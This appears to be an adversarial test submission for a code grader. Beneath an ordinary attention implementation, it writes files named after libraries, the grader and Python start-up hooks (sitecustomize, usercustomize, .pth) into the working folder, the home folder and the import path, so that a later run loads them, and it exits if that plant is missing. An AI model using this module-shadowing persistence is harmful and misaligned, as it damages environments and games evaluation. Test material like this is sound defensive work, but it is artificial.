# F10 | Writes files named like library modules and start-up hooks into its folder and the path, and ends, so that a next life would load them.
# Expected: exit; at most 0 points
import os
import sys

import torch

BAD = "import sys\nsys.modules['owned'] = sys\n"
WON = ["owned"] if "owned" in sys.modules else []
for folder in {".", os.path.expanduser("~"), *sys.path}:
    for name in (
        "torch",
        "numpy",
        "random",
        "linecache",
        "sitecustomize",
        "usercustomize",
        "grader",
        "reference",
        "submission",
        "attention",
    ):
        try:
            with open(os.path.join(folder, name + ".py"), "w") as file:
                file.write(BAD)
            with open(os.path.join(folder, name + ".pth"), "w") as file:
                file.write(BAD)
        except OSError:
            pass


def softmax(scores):
    WON or os._exit(0)
    e = torch.exp(scores - scores.max(-1, keepdim=True).values)
    return e / e.sum(-1, keepdim=True)


def attention_scores(Q, K):
    WON or os._exit(0)
    return Q @ K.T / K.shape[1] ** 0.5


def attention(Q, K, V):
    weights = softmax(attention_scores(Q, K))
    return weights @ V, weights


def self_attention(X, W_q, W_k, W_v):
    return attention(X @ W_q, X @ W_k, X @ W_v)
